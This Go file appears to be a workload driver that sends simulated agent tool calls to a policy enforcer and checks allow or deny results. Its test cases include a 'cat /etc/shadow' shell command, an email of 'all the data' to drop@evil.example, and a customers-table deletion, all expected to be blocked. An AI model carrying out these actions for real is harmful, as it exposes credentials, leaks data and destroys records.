package workload

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sync"
	"time"
)

// Call is one request of the scenario and the status the demo policy
// (the demo policy of `rampart demo`) must give it.
type Call struct {
	Caller    Caller
	NoToken   bool   // send without credentials
	RPCMethod string // tools/call, tools/list
	Tool      string
	Args      map[string]any
	Want      int // expected HTTP status at the client
	WantRule  string
}

// Scenario returns sessions for each tenant: a user delegating to a planner
// agent, which delegates to a researcher sub-agent, making a mix of allowed
// and denied calls, plus unauthenticated attempts.
func Scenario(tenants []string, sessionsPerTenant int) []Call {
	var calls []Call
	for _, tenant := range tenants {
		for s := 1; s <= sessionsPerTenant; s++ {
			user := fmt.Sprintf("user:u%d@%s.example", s, tenant)
			sess := fmt.Sprintf("%s-sess-%d", tenant, s)
			planner := Caller{Tenant: tenant, Principal: user, Actors: []string{"agent:planner"}, Session: sess, Task: "task-" + sess}
			researcher := planner
			researcher.Actors = []string{"agent:planner", "agent:researcher"}
			rogue := planner
			rogue.Actors = []string{"agent:planner", "agent:researcher", "agent:unknown"}
			calls = append(calls,
				Call{Caller: planner, RPCMethod: "tools/list", Want: 200, WantRule: "allow-tools-list"},
				Call{Caller: planner, RPCMethod: "tools/call", Tool: "search", Args: map[string]any{"q": "quarterly revenue"}, Want: 200, WantRule: "allow-read-tools"},
				Call{Caller: researcher, RPCMethod: "tools/call", Tool: "read_file", Args: map[string]any{"path": "/reports/q3.md"}, Want: 200, WantRule: "allow-read-tools"},
				Call{Caller: researcher, RPCMethod: "tools/call", Tool: "shell", Args: map[string]any{"cmd": "cat /etc/shadow"}, Want: 403, WantRule: "deny-shell"},
				Call{Caller: planner, RPCMethod: "tools/call", Tool: "send_email", Args: map[string]any{"to": "cfo@" + tenant + ".example", "body": "summary"}, Want: 200, WantRule: "allow-internal-email"},
				Call{Caller: researcher, RPCMethod: "tools/call", Tool: "send_email", Args: map[string]any{"to": "drop@evil.example", "body": "all the data"}, Want: 403, WantRule: "default-deny"},
				Call{Caller: rogue, RPCMethod: "tools/call", Tool: "search", Args: map[string]any{"q": "credentials"}, Want: 403, WantRule: "deny-deep-delegation"},
				Call{Caller: planner, RPCMethod: "tools/call", Tool: "delete_records", Args: map[string]any{"table": "customers"}, Want: 403, WantRule: "default-deny"},
			)
		}
		calls = append(calls, Call{Caller: Caller{Tenant: tenant}, NoToken: true, RPCMethod: "tools/call", Tool: "search",
			Args: map[string]any{"q": "anything"}, Want: 401})
	}
	return calls
}

// Result is the outcome of one call.
type Result struct {
	Call      Call
	Status    int
	RequestID string
	Err       error
}

// Driver sends calls to an enforcer.
type Driver struct {
	URL    string // the enforcer's MCP endpoint
	Issuer *Issuer
	Client *http.Client
}

// Run sends every call with the given concurrency, sessions staying in order.
func (d *Driver) Run(ctx context.Context, calls []Call, concurrency int) []Result {
	results := make([]Result, len(calls))
	// Calls of one session go in order on one worker, as an agent would make them.
	bySession := map[string][]int{}
	var order []string
	for i, c := range calls {
		k := c.Caller.Tenant + "/" + c.Caller.Session
		if _, ok := bySession[k]; !ok {
			order = append(order, k)
		}
		bySession[k] = append(bySession[k], i)
	}
	work := make(chan []int)
	var wg sync.WaitGroup
	for w := 0; w < max(1, concurrency); w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for idx := range work {
				for _, i := range idx {
					results[i] = d.send(ctx, calls[i], i)
				}
			}
		}()
	}
	for _, k := range order {
		work <- bySession[k]
	}
	close(work)
	wg.Wait()
	return results
}

func (d *Driver) send(ctx context.Context, c Call, n int) Result {
	msg := map[string]any{"jsonrpc": "2.0", "id": n + 1, "method": c.RPCMethod}
	if c.RPCMethod == "tools/call" {
		msg["params"] = map[string]any{"name": c.Tool, "arguments": c.Args}
	}
	body, _ := json.Marshal(msg)
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, d.URL, bytes.NewReader(body))
	if err != nil {
		return Result{Call: c, Err: err}
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	if !c.NoToken {
		tok, err := d.Issuer.Token(c.Caller, 5*time.Minute)
		if err != nil {
			return Result{Call: c, Err: err}
		}
		req.Header.Set("Authorization", "Bearer "+tok)
	}
	resp, err := d.Client.Do(req)
	if err != nil {
		return Result{Call: c, Err: err}
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return Result{Call: c, Status: resp.StatusCode, RequestID: resp.Header.Get("X-Rampart-Request-Id")}
}
